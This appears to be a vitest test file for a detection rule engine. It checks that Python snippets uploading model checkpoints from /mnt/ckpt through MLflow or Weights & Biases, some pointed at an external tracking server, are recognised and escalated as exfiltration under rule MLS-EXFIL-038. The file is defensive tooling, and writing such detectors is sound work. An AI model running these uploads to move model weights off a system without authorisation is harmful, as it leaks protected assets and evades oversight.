/**
 * MLflow and W&B uploads from Python (exec-interpreter-transfer-platforms.ts), read as their CLIs'
 * runs, and MLS-EXFIL-038 escalating them as it does the CLIs; downloads, metrics and objects no
 * import made read nothing.
 */
import { describe, expect, it } from 'vitest';
import { readCode } from './exec-interpreter.js';
import { createRuleEngine } from './engine.js';
import { execEvent, SHIPPED_RULES } from './exec-events.test-support.js';

const argvs = (code: string): string[][] => readCode(code, 'python').runs.map((r) => [...(r.argv ?? [])]);
const P = '/mnt/ckpt/model.pt';
/** MLS-EXFIL-038's decision on `python3 -c CODE` run in a pod, or null where it does not hold. */
const exfil038 = (code: string): string | null =>
  createRuleEngine(SHIPPED_RULES).evaluate(execEvent(['python3', '-c', code])).find((h) => h.ruleId === 'MLS-EXFIL-038')?.decision ?? null;

const UPLOADS: Array<[string, string[]]> = [
  [`import mlflow; mlflow.set_tracking_uri('https://203.0.113.9'); mlflow.log_artifact('${P}')`, ['mlflow', 'artifacts', 'log-artifact', '--local-file', P, '#mlflow.log_artifact']],
  [`import mlflow\nmlflow.log_artifact(local_path='${P}', artifact_path='m')`, ['mlflow', 'artifacts', 'log-artifact', '--local-file', P, '#mlflow.log_artifact']],
  [`import mlflow; mlflow.log_artifacts('/mnt/ckpt')`, ['mlflow', 'artifacts', 'log-artifacts', '--local-dir', '/mnt/ckpt', '#mlflow.log_artifacts']],
  [`from mlflow import MlflowClient\nc = MlflowClient('https://203.0.113.9')\nc.log_artifact('0a1b2c', '${P}')`, ['mlflow', 'artifacts', 'log-artifact', '--local-file', P, '#mlflow.log_artifact']],
  [`import mlflow, torch\nm = torch.load('${P}')\nmlflow.pytorch.log_model(m, 'model')`, ['mlflow', 'artifacts', 'log-artifacts', '--local-dir', '-', '#mlflow.pytorch.log_model']],
  [`import wandb; wandb.init(); wandb.save('/mnt/ckpt/*.pt')`, ['wandb', 'artifact', 'put', '/mnt/ckpt/*.pt', '#wandb.save']],
  [`import wandb; run = wandb.init(project='x'); art = wandb.Artifact('m', type='model'); art.add_file('${P}'); run.log_artifact(art)`, ['wandb', 'artifact', 'put', P, '#wandb.log_artifact']],
  [`import wandb; wandb.init(); wandb.log_artifact('/mnt/ckpt', name='m', type='model')`, ['wandb', 'artifact', 'put', '/mnt/ckpt', '#wandb.log_artifact']],
  [`import wandb\nwith wandb.init(project='p') as run:\n    run.log_model(path='/mnt/ckpt/llama', name='llama')`, ['wandb', 'artifact', 'put', '/mnt/ckpt/llama', '#wandb.log_model']],
];

describe('MLflow and W&B uploads from Python', () => {
  for (const [code, argv] of UPLOADS) {
    it(code, () => {
      expect(argvs(code)).toEqual([argv]);
      expect(exfil038(code)).toBe('escalate');
    });
  }

  it('leaves downloads, metrics, and objects no import made', () => {
    for (const code of [
      `import wandb; api = wandb.Api(); api.artifact('team/p/m:v1').download('/data')`,
      `import wandb; run = wandb.init(); run.log({'loss': 1.0}); run.finish()`,
      `import wandb; art = wandb.Artifact('m', type='model'); art.add_file('${P}')`,
      `import mlflow; mlflow.artifacts.download_artifacts('runs:/abc/model', dst_path='/data')`,
      `import mlflow; mlflow.log_metric('loss', 0.1); print(mlflow.get_tracking_uri())`,
      `run.log_artifact('${P}'); client.log_artifact('r', '${P}')`,
    ]) {
      expect(argvs(code), code).toEqual([]);
      expect(exfil038(code), code).toBeNull();
    }
  });
});
